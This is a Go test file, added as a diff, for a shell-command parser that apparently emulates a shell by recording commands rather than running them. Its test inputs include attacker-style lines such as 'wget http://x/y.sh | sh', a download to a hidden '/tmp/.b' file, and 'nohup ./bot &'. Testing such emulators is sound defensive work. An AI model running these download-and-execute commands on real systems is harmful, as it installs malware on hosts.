@@ -0,0 +1,211 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// recorder is an Executor recording the commands, which echo their arguments and fail when named "false".
+type recorder struct {
+	commands []Command
+}
+
+func (r *recorder) execute(command Command) (string, bool) {
+	r.commands = append(r.commands, command)
+	if len(command.Args) == 0 {
+		return "", true
+	}
+	switch command.Args[0] {
+	case "false":
+		return "", false
+	case "echo":
+		return strings.Join(command.Args[1:], " "), true
+	}
+	return command.Args[0] + " output", true
+}
+
+func TestRun_SimpleCommand(t *testing.T) {
+	tests := []struct {
+		line     string
+		expected Command
+	}{
+		{"ls -la /tmp", Command{Args: []string{"ls", "-la", "/tmp"}}},
+		{"  echo   spaced\targs ", Command{Args: []string{"echo", "spaced", "args"}}},
+		{`echo "hello world" 'single $HOME' \$escaped`, Command{Args: []string{"echo", "hello world", "single $HOME", "$escaped"}}},
+		{`echo "a \"quoted\" \n word"`, Command{Args: []string{"echo", `a "quoted" \n word`}}},
+		{`echo "" ''`, Command{Args: []string{"echo", "", ""}}},
+		{`echo foo"bar"'baz'`, Command{Args: []string{"echo", "foobarbaz"}}},
+		{"echo pwned > /tmp/x", Command{Args: []string{"echo", "pwned"}, Redirects: []Redirect{{Op: ">", Target: "/tmp/x"}}}},
+		{"echo pwned>>/tmp/x", Command{Args: []string{"echo", "pwned"}, Redirects: []Redirect{{Op: ">>", Target: "/tmp/x"}}}},
+		{"cat < in 2>/dev/null", Command{Args: []string{"cat"}, Redirects: []Redirect{{Op: "<", Target: "in"}, {Op: "2>", Target: "/dev/null"}}}},
+		{"echo 1>out", Command{Args: []string{"echo"}, Redirects: []Redirect{{Op: ">", Target: "out"}}}},
+		{`echo "2">out`, Command{Args: []string{"echo", "2"}, Redirects: []Redirect{{Op: ">", Target: "out"}}}},
+		{`echo ">" \>`, Command{Args: []string{"echo", ">", ">"}}},
+		{"wget -q x >/dev/null 2>&1", Command{Args: []string{"wget", "-q", "x"}, Redirects: []Redirect{{Op: ">", Target: "/dev/null"}, {Op: "2>&", Target: "1"}}}},
+		{"curl x &>/dev/null", Command{Args: []string{"curl", "x"}, Redirects: []Redirect{{Op: "&>", Target: "/dev/null"}}}},
+		{`echo 'a;b' "c|d" e\&\&f`, Command{Args: []string{"echo", "a;b", "c|d", "e&&f"}}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			r := &recorder{}
+			_, err := Run(tt.line, r.execute)
+			require.NoError(t, err)
+			require.Len(t, r.commands, 1)
+			assert.Equal(t, tt.expected, r.commands[0])
+		})
+	}
+}
+
+func TestRun_ListsAndPipelines(t *testing.T) {
+	tests := []struct {
+		line     string
+		commands []string
+		output   string
+	}{
+		{"", nil, ""},
+		{"uname -a; wget http://x/y.sh | sh", []string{"uname -a", "wget http://x/y.sh", "sh"}, "uname output\nsh output"},
+		{"cd /tmp && ls", []string{"cd /tmp", "ls"}, "cd output\nls output"},
+		{"false && ls; echo done", []string{"false", "echo done"}, "done"},
+		{"false || echo fallback", []string{"false", "echo fallback"}, "fallback"},
+		{"echo ok || echo skipped && echo after", []string{"echo ok", "echo after"}, "ok\nafter"},
+		{"nohup ./bot & echo started;", []string{"nohup ./bot", "echo started"}, "nohup output\nstarted"},
+		{"cd /tmp\nls", []string{"cd /tmp", "ls"}, "cd output\nls output"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			r := &recorder{}
+			output, err := Run(tt.line, r.execute)
+			require.NoError(t, err)
+			var commands []string
+			for _, command := range r.commands {
+				commands = append(commands, command.String())
+			}
+			assert.Equal(t, tt.commands, commands)
+			assert.Equal(t, tt.output, output)
+		})
+	}
+}
+
+func TestRun_CommandSubstitution(t *testing.T) {
+	tests := []struct {
+		line     string
+		commands []string
+		output   string
+	}{
+		{"echo $(whoami)", []string{"whoami", "echo whoami output"}, "whoami output"},
+		{`echo "$(whoami)"`, []string{"whoami", "echo 'whoami output'"}, "whoami output"},
+		{"echo `whoami`", []string{"whoami", "echo whoami output"}, "whoami output"},
+		{"echo x$(echo a b)y", []string{"echo a b", "echo xa by"}, "xa by"},
+		{"echo [$(false)]", []string{"false", "echo '[]'"}, "[]"},
+		{"echo $(echo $(echo nested))", []string{"echo nested", "echo nested", "echo nested"}, "nested"},
+		{"echo $(echo 'a)b')", []string{"echo 'a)b'", "echo 'a)b'"}, "a)b"},
+		{"echo `echo \\`whoami\\``", []string{"whoami", "echo whoami output", "echo whoami output"}, "whoami output"},
+		{"wget http://x/$(uname -m) -O /tmp/.b", []string{"uname -m", "wget http://x/uname output -O /tmp/.b"}, "wget output"},
+		{"cat > $(echo out)", []string{"echo out", "cat > out"}, "cat output"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			r := &recorder{}
+			output, err := Run(tt.line, r.execute)
+			require.NoError(t, err)
+			var commands []string
+			for _, command := range r.commands {
+				commands = append(commands, command.String())
+			}
+			assert.Equal(t, tt.commands, commands)
+			assert.Equal(t, tt.output, output)
+		})
+	}
+}
+
+func TestRun_SyntaxErrors(t *testing.T) {
+	tests := []struct {
+		line     string
+		expected string
+	}{
+		{`echo "unterminated`, "unexpected EOF while looking for matching `\"'"},
+		{`echo 'unterminated`, "unexpected EOF while looking for matching `''"},
+		{"echo $(whoami", "unexpected EOF while looking for matching `)'"},
+		{"echo `whoami", "unexpected EOF while looking for matching ``'"},
+		{"echo >", "syntax error near unexpected token `newline'"},
+		{"echo > > x", "syntax error near unexpected token `>'"},
+		{"; ls", "syntax error near unexpected token `;'"},
+		{"ls && && id", "syntax error near unexpected token `&&'"},
+		{"ls |", "syntax error: unexpected end of file"},
+		{"ls &&", "syntax error: unexpected end of file"},
+		{"echo $(ls |)", "syntax error: unexpected end of file"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			r := &recorder{}
+			_, err := Run(tt.line, r.execute)
+			var syntaxError *SyntaxError
+			require.ErrorAs(t, err, &syntaxError)
+			assert.Equal(t, tt.expected, syntaxError.Msg)
+		})
+	}
+}
+
+func TestRun_Limits(t *testing.T) {
+	nested := func(depth int) string {
+		return strings.Repeat("$(", depth) + "x" + strings.Repeat(")", depth)
+	}
+
+	r := &recorder{}
+	output, err := Run("echo "+nested(MaxNestingDepth), r.execute)
+	require.NoError(t, err)
+	assert.Equal(t, "x output", output)
+	assert.Len(t, r.commands, MaxNestingDepth+1)
+
+	// A deeply nested line is refused quickly, without running any command.
+	for _, line := range []string{nested(MaxNestingDepth + 1), nested(20000)} {
+		r := &recorder{}
+		started := time.Now()
+		_, err := Run(line, r.execute)
+		var syntaxError *SyntaxError
+		require.ErrorAs(t, err, &syntaxError)
+		assert.Less(t, time.Since(started), time.Second)
+		assert.Empty(t, r.commands)
+	}
+
+	_, err = Run("echo "+strings.Repeat("a", MaxLineLength), r.execute)
+	var syntaxError *SyntaxError
+	require.ErrorAs(t, err, &syntaxError)
+	assert.Equal(t, "command line too long", syntaxError.Msg)
+
+	r = &recorder{}
+	_, err = Run(strings.Repeat("a;", MaxSubCommands), r.execute)
+	require.NoError(t, err)
+	assert.Len(t, r.commands, MaxSubCommands)
+
+	// The substituted commands count too, a line with too many commands runs none of them.
+	for _, line := range []string{strings.Repeat("a;", MaxSubCommands+1), strings.Repeat("a;", 32000), "echo " + strings.Repeat("$(a)", MaxSubCommands)} {
+		r := &recorder{}
+		_, err := Run(line, r.execute)
+		require.ErrorAs(t, err, &syntaxError)
+		assert.Equal(t, "too many commands", syntaxError.Msg)
+		assert.Empty(t, r.commands)
+	}
+}
+
+func TestCommand_String(t *testing.T) {
+	command := Command{
+		Args:      []string{"echo", "hello world", "it's", "", "plain"},
+		Redirects: []Redirect{{Op: ">>", Target: "/tmp/x"}, {Op: "2>&", Target: "1"}},
+	}
+	assert.Equal(t, `echo 'hello world' 'it'\''s' '' plain >> /tmp/x 2>&1`, command.String())
+
+	r := &recorder{}
+	_, err := Run(command.String(), r.execute)
+	require.NoError(t, err)
+	require.Len(t, r.commands, 1)
+	assert.Equal(t, command, r.commands[0])
+}